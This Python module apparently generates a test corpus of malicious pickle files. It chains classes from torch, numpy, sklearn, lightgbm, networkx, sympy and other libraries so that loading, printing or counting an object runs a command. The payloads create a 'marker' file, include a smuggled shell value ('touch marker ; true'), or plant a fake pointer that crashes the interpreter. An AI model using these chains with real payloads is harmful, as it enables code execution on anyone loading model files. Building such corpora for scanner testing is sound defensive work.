"""Attacks by chains of harmless classes: `attacks()` gives name, kind and body.

A class that only keeps its state is harmless alone. What is done to it later is not always: an attribute of the state stands
before a method of the class, so whoever calls the method calls what the file put there, and a list of such objects is asked
for their texts, lengths and numbers by whatever is made of it. At the end of the chain stands a class that does something
when it is made, called or printed, and that keeps its state as harmlessly as the others. All but the pointers made their file
when CPython loaded them with the libraries; the pointers end the interpreter.
"""

import struct

from lookups import built, state, tuple_of
from opcodes import PROTO, call, stack_glob, text

KIND = "harmless classes, chained"
TRUE, FALSE, NONE, EMPTY = b"\x88", b"\x89", b"N", b"}"
FILE = text("marker")


def number(value):
    return b"J" + struct.pack("<i", value)


def list_of(*values):
    return b"](" + b"".join(values) + b"e"


def array_of(*values):
    """An array of objects."""
    made = call(stack_glob("numpy._core.multiarray", "_reconstruct"), stack_glob("numpy", "ndarray"), b"K\0\x85", b"C\x01b")
    kind = call(stack_glob("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return made + b"(K\x01K" + bytes([len(values)]) + b"\x85" + kind + b"\x89" + list_of(*values) + b"tb"


def ends():
    """Objects and callables that do something."""
    handler = "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler"
    bound = call(stack_glob("functools", "partial"), stack_glob(handler, "SubprocessHandler"), text("touch"), tuple_of(FILE), EMPTY, NONE, NONE, number(0), NONE)
    yield "started", bound
    yield "logged", call(stack_glob("functools", "partial"), stack_glob("joblib.logger", "PrintTime"), FILE)
    yield "command", built("nevergrad.parametrization.utils", "CommandFunction", state(command=list_of(text("touch"), FILE), verbose=FALSE, cwd=NONE, env=NONE))


def printed(end):
    """An object whose text calls the end."""
    return built("torch.nn.modules.module", "Module", state(_modules=EMPTY, extra_repr=end))


def alone():
    """Objects that need no callable of the file's: they are printed, counted or filled."""
    yield "revision", built("dendropy.utility.vcsinfo", "Revision", state(vcs_app_path=text("touch marker ; true"), repo_path=text("."), _commit_id=NONE))
    words = text('__import__("pathlib").Path("marker").touch()')
    cell = b"}" + tuple_of(number(0), number(0)) + words + b"s"
    yield "matrix", built("sympy.matrices.common", "_MatrixWrapper", state(mat=cell, rows=number(1), cols=number(1)))
    yield "deferred", built("boltons.formatutils", "DeferredValue", state(func=dict(ends())["command"]))


def makers():
    """What asks a list for more than its length."""
    for module, name, before in [
        ("numpy", "str_", []), ("numpy", "float64", []), ("numpy", "bytes_", []), ("numpy", "complex128", []), ("numpy", "object_", []),
        ("array", "array", [text("d")]), ("torch.torch_version", "TorchVersion", []), ("ipaddress", "IPv4Address", []),
    ]:
        yield name.strip("_"), lambda held, module=module, name=name, before=before: call(stack_glob(module, name), *before, held)


def held(one):
    """Places in which an object stands."""
    yield "list", list_of(one)
    yield "nested", list_of(list_of(one))
    yield "tuple", list_of(tuple_of(one))
    yield "value", b"}" + text("k") + one + b"s"
    # The inner list is filled when it stands in the outer one.
    yield "late", b"]\x94](]h\x00" + b"eh\x00" + one + b"a0"


def hooks(end):
    """What classes call while they read their state."""
    yield "optimizer", built("torch.optim.sgd", "SGD", state(_patch_step_function=end, defaults=EMPTY, param_groups=b"]", state=EMPTY))
    yield "groups", built("torch.optim.sgd", "SGD", state(defaults=EMPTY, param_groups=list_of(built("torch.nn.modules.module", "Module", state(setdefault=end))), state=EMPTY))
    yield "weights", built("torch.nn.modules.rnn", "LSTM", state(_modules=EMPTY, _parameters=EMPTY, _buffers=EMPTY, all_weights=call(stack_glob("collections", "defaultdict"), end)))
    yield "version", built("sklearn.linear_model._logistic", "LogisticRegression", state(_sklearn_version=list_of(printed(end))))
    yield "booster", built("lightgbm.basic", "Booster", state(_handle=built("torch.nn.modules.module", "Module", state(encode=end))))
    graph = state(graph=EMPTY, _adj=EMPTY, _node=EMPTY, __networkx_cache__=built("torch.nn.modules.module", "Module", state(clear=end)))
    yield "setter", built("networkx.classes.graph", "Graph", tuple_of(graph, state(name=text("x"))))


def attacks():
    for end_name, end in ends():
        for name, body in hooks(end):
            yield f"chain_{name}_{end_name}.pkl", KIND, PROTO + body + b"."
    things = [*((name, printed(end)) for name, end in ends()), *alone()]
    for maker, make in makers():
        for thing, one in things:
            for place, value in held(one) if maker in ("str", "float64") else [next(held(one))]:
                yield f"chain_{maker}_{place}_{thing}.pkl", KIND, PROTO + make(value) + b"."
    for name in ["IndexHandle", "PropertyHandle"]:
        pointer = b"\x8a\x08" + struct.pack("<q", 0x4141_4141_4141)
        yield f"chain_pointer_{name}.pkl", KIND, PROTO + built("rtree.index", name, state(_ptr=pointer)) + b"."
